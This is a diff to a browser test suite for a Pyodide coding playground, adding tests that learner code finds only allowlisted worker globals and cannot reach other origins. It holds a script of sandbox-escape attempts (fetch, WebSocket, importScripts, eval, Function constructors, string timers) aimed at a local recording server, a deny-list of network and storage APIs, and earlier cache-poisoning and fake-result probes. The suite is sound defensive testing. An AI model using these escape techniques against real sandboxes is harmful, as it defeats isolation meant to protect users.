@@ -1,16 +1,21 @@
-"""Learner code can't reach the page (issue 10).
+"""Learner code can't reach the page, what it stores, or anything outside the origin (issues 10 and 21).
 
 Python runs in the worker and reaches the worker's whole global scope through Pyodide's `js` module. These
-tests run the attacks found in the issue, from Run tests and from Run code, and check that none of them gets
-through: the offline copy can't be poisoned, fake results never show, and work a run leaves behind is never
-blamed on the next run.
+tests run the attacks found in the issues, from Run tests and from Run code, and check that none of them gets
+through: the offline copy can't be poisoned, fake results never show, the worker's scope holds only what the
+allowlist keeps, nothing leaves the origin even on a host that sends no Content-Security-Policy, and work a run
+leaves behind is never blamed on the next run.
 """
 
 import json
 import re
+import subprocess
+import threading
 import urllib.error
 import urllib.request
 import zipfile
+from contextlib import contextmanager
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import pytest
 from playwright.sync_api import Page, expect
@@ -24,7 +29,7 @@ from pageutil import (
     wait_until_ready,
 )
 from problems import all_problems, first_problem
-from serving import DIST, served_dist
+from serving import DIST, ROOT, plain_static_server, served_dist
 
 pytestmark = pytest.mark.browser
 
@@ -35,25 +40,71 @@ ALL_PASSED, NONE_PASSED = f"{REQUIRED}/{REQUIRED} passed", f"0/{REQUIRED} passed
 WRONG = "class Value:\n    pass\n"
 EVIL_MARK = "pwned-by-learner-code"
 
-# Everything learner code must not reach, checked from Python through every path we know of.
-PROBE = """\
+# Every name learner code finds on the worker's global scope and on the prototypes it inherits from, but
+# Object.prototype (which every object shares): a name static/run/lockdown.js does not keep is a failure, so that
+# no API a browser adds reaches learner code unnoticed.
+GLOBAL_NAMES = """\
+import json
 import js
 
-GLOBALS = ["caches", "indexedDB", "postMessage", "Worker", "SharedWorker", "BroadcastChannel",
-           "CacheStorage", "Cache", "IDBFactory", "ServiceWorkerContainer", "StorageManager", "LockManager"]
-NAVIGATOR = ["serviceWorker", "storage", "storageBuckets", "locks"]
-reachable = [name for name in GLOBALS if js.Reflect.has(js.self, name)]
-reachable += [f"navigator.{name}" for name in NAVIGATOR if js.Reflect.has(js.navigator, name)]
+names = set()
 link = js.self
-while link:  # the global's prototypes: DedicatedWorkerGlobalScope.prototype, WorkerGlobalScope.prototype, ...
-    reachable += [f"prototype.{name}" for name in GLOBALS if js.Object.getOwnPropertyDescriptor(link, name)]
+while js.Object.prototype.isPrototypeOf(link):
+    names.update(js.Object.getOwnPropertyNames(link))
     link = js.Object.getPrototypeOf(link)
-link = js.navigator
-while link:
-    reachable += [f"navigator prototype.{name}" for name in NAVIGATOR
-                  if js.Object.getOwnPropertyDescriptor(link, name)]
-    link = js.Object.getPrototypeOf(link)
-print("reachable:", reachable)
+print("names:", json.dumps(sorted(names)))
+"""
+# Never to be kept, whatever the allowlist says: storage, the page and other contexts, the network, compiling.
+NEVER_KEPT = {"caches", "indexedDB", "postMessage", "Worker", "SharedWorker", "BroadcastChannel", "CacheStorage",
+              "navigator", "cookieStore", "webkitRequestFileSystem", "webkitRequestFileSystemSync",
+              "webkitResolveLocalFileSystemURL", "webkitResolveLocalFileSystemSyncURL", "fetch", "XMLHttpRequest",
+              "WebSocket", "WebSocketStream", "WebTransport", "EventSource", "importScripts", "fonts", "FontFace",
+              "eval", "location"}
+
+# Every way out of the origin we know of, each tried at a server elsewhere (<elsewhere>: its origin):
+# each must fail at once. One can only fail later (a promise): only that server can tell that it did.
+ESCAPES = """\
+import json
+import pyodide.code
+import js
+import pyodide_js
+
+ELSEWHERE = "<elsewhere>"
+IMPORT = f"import('{ELSEWHERE}/imported.js')"
+allowed = []
+
+
+def attempt(way, leave):
+    try:
+        leave()
+        allowed.append(way)
+    except Exception:
+        pass
+
+
+def xhr():
+    request = js.XMLHttpRequest.new()
+    request.open("GET", ELSEWHERE + "/xhr", False)
+    request.send()
+
+
+attempt("fetch", lambda: js.fetch(ELSEWHERE + "/fetch"))
+attempt("XMLHttpRequest", xhr)
+attempt("WebSocket", lambda: js.WebSocket.new(ELSEWHERE.replace("http", "ws") + "/websocket"))
+attempt("EventSource", lambda: js.EventSource.new(ELSEWHERE + "/eventsource"))
+attempt("WebTransport", lambda: js.WebTransport.new(ELSEWHERE.replace("http", "https") + "/webtransport"))
+attempt("importScripts", lambda: js.importScripts(ELSEWHERE + "/imported.js"))
+attempt("a font", lambda: js.FontFace.new("f", f"url({ELSEWHERE}/font)").load())
+attempt("eval", lambda: js.eval(IMPORT))
+attempt("pyodide.code.run_js", lambda: pyodide.code.run_js(IMPORT))
+attempt("Function", lambda: js.Function(f"return {IMPORT}")())
+attempt("new Function", lambda: js.Function.new(f"return {IMPORT}")())
+attempt("a function's constructor", lambda: js.Object.constructor(f"return {IMPORT}")())
+attempt("an async function's constructor", lambda: pyodide_js.loadPackage.constructor(f"return {IMPORT}")())
+attempt("a timer given a string", lambda: js.setTimeout(IMPORT, 0))
+attempt("an interval given a string", lambda: js.setInterval(IMPORT, 1000))
+pyodide_js.loadPackage(ELSEWHERE + "/package.whl")
+print("allowed:", json.dumps(allowed))
 """
 
 # The issue's repro: put a page of our own in place of index.html in every cache, every way we can think of.
@@ -138,7 +189,10 @@ for send in [lambda m: js.postMessage(m), lambda m: js.self.postMessage(m),
             pass
 # Whatever the worker posts or parses from now on: our fake results.
 js.JSON.parse = create_proxy(lambda *args: to_js(FAKE, dict_converter=js.Object.fromEntries))
-js.MessagePort.prototype.postMessage = create_proxy(lambda *args: None)
+try:  # not in the worker's scope (lockdown.js): patched if it were
+    js.MessagePort.prototype.postMessage = create_proxy(lambda *args: None)
+except AttributeError:
+    pass
 js.self.onmessage = None
 
 class Value:
@@ -242,9 +296,73 @@ def test_the_service_worker_serves_our_headers_not_the_stored_ones(browser, prob
     context.close()
 
 
-def test_learner_code_cannot_reach_storage_other_contexts_or_the_page(page):
-    assert "reachable: []" in run_code(page, PROBE)
-    assert "reachable: []" in run_code(page, PROBE)  # and still after a run
+def kept_names() -> set[str]:
+    """What static/run/lockdown.js lets learner code keep."""
+    script = "import('./static/run/lockdown.js').then((lockdown) => console.log(JSON.stringify(lockdown.KEPT)))"
+    found = subprocess.run(["node", "--input-type=module", "-e", script], cwd=ROOT, capture_output=True, text=True,
+                           check=True)
+    return set(json.loads(found.stdout))
+
+
+def printed(output: str, label: str):
+    return json.loads(re.search(rf"^{label}: (.*)$", output, re.M).group(1))
+
+
+def test_learner_code_finds_only_what_the_allowlist_keeps(page):
+    kept = kept_names()
+    assert not kept & NEVER_KEPT
+    for _ in range(2):  # and still after a run
+        names = set(printed(run_code(page, GLOBAL_NAMES), "names"))
+        assert names - kept == set()
+        assert {"self", "setTimeout", "TextDecoder", "WebAssembly"} <= names  # the probe does see the scope
+
+
+@contextmanager
+def recording_server():
+    """A server on another origin that answers every request (as a script, to any origin) and records its path."""
+    received = []
+
+    class Recorder(BaseHTTPRequestHandler):
+        def do_GET(self):
+            received.append(self.path)
+            self.send_response(200)
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.send_header("Content-Type", "text/javascript")
+            self.end_headers()
+            self.wfile.write(b"export default 1;\n")
+
+        do_POST = do_HEAD = do_OPTIONS = do_GET
+
+        def log_message(self, *args):
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}", received
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def test_nothing_leaves_the_origin_on_a_host_without_our_headers(browser, tmp_path):
+    """On a first visit to a plain static host, nothing sends the worker a Content-Security-Policy: the worker's
+    scope alone has to keep learner code in the origin."""
+    (tmp_path / "playground").symlink_to(DIST)
+    with plain_static_server(tmp_path) as origin, recording_server() as (elsewhere, received):
+        context = browser.new_context()
+        page = context.new_page()
+        response = page.goto(f"{origin}/playground/#/{PROBLEM.id}")
+        assert "content-security-policy" not in response.headers
+        wait_until_ready(page)
+        output = run_code(page, ESCAPES.replace("<elsewhere>", elsewhere))
+        assert "Ran in" in output, output
+        assert printed(output, "allowed") == []
+        paste_code(page, SOLUTION)
+        assert run_and_wait(page).startswith(ALL_PASSED)
+        context.close()
+    assert received == []
 
 
 def test_fake_results_never_show(page):
